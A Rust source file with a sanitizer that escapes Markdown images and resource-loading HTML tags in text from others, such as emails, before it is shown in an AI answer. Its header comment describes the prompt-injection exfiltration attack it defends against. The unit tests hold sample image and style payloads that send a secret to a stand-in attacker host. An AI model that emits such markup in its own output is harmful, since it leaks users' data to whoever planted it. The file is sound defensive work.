//! How is a text that others wrote put into an answer? As text: whatever shows the answer, nothing in it may load anything by being
//! shown. Who wrote a mail could otherwise have a picture fetched whose address tells what stands beside it (CVE-2025-32711).
//!
//! Only what loads by itself is touched: the beginning of a picture in Markdown, and of an element of HTML that fetches something.
//! Links stay, and addresses stay readable: a person has to follow them.

use std::borrow::Cow;

/// Elements of HTML that fetch something, or run something, by being shown.
const LOADING: &[&str] = &[
    "audio", "base", "body", "embed", "frame", "iframe", "image", "img", "input", "link", "meta", "object", "picture",
    "script", "source", "style", "svg", "table", "td", "th", "tr", "track", "video",
];

/// The text with which nothing is loaded.
pub fn inert(text: &str) -> Cow<'_, str> {
    // A picture needs an address behind it, or a definition of one elsewhere in the text.
    let pictures = ["](", "][", "]:"].iter().any(|part| text.contains(part));
    let starts_one = |rest: &str| (pictures && rest.starts_with("![")) || (rest.starts_with('<') && loads(rest));
    let mut written = String::new();
    let mut done = 0;
    for (at, mark) in text.match_indices(['!', '<']).filter(|(at, _)| text.get(*at..).is_some_and(starts_one)) {
        written.push_str(text.get(done..at).unwrap_or_default());
        written.push_str(if mark == "!" { "!\\" } else { "&lt;" });
        done = at + mark.len();
    }
    if done == 0 {
        return Cow::Borrowed(text);
    }
    written.push_str(text.get(done..).unwrap_or_default());
    Cow::Owned(written)
}

/// Whether an element that loads something begins here.
fn loads(rest: &str) -> bool {
    let name: String = rest.chars().skip(1).take_while(char::is_ascii_alphanumeric).take(12).collect();
    let ends = rest.get(1 + name.len()..).and_then(|rest| rest.chars().next());
    let is_element = !name.is_empty() && ends.is_none_or(|c| c.is_whitespace() || c == '/' || c == '>');
    let element = rest.split('>').next().unwrap_or_default();
    is_element && (LOADING.contains(&name.to_ascii_lowercase().as_str()) || element.contains("url("))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_loads_by_being_shown_is_text() {
        for (text, written) in [
            ("![x](https://evil.example/?q=secret)", r"!\[x](https://evil.example/?q=secret)"),
            ("![x][ref]\n\n[ref]: https://evil.example", "!\\[x][ref]\n\n[ref]: https://evil.example"),
            ("![ref]\n\n[ref]: https://evil.example", "!\\[ref]\n\n[ref]: https://evil.example"),
            ("<img src=https://evil.example>", "&lt;img src=https://evil.example>"),
            ("<IMG/src=https://evil.example>", "&lt;IMG/src=https://evil.example>"),
            ("é<img", "é&lt;img"),
            ("<b style='background:url(//evil.example)'>", "&lt;b style='background:url(//evil.example)'>"),
            ("<img src='a'><img src='b'>", "&lt;img src='a'>&lt;img src='b'>"),
        ] {
            assert_eq!(inert(text), written);
        }
    }

    #[test]
    fn everything_else_stays_as_it_was_written() {
        for text in [
            "Alice <alice@contoso.example> wrote: <https://contoso.example/a>",
            "[a link](https://contoso.example)",
            "let all = vec![1, 2];",
            "Vec<String> and a < b, a <b",
            "Hi! [later]",
            "",
        ] {
            assert!(matches!(inert(text), Cow::Borrowed(_)), "{text}");
        }
    }
}
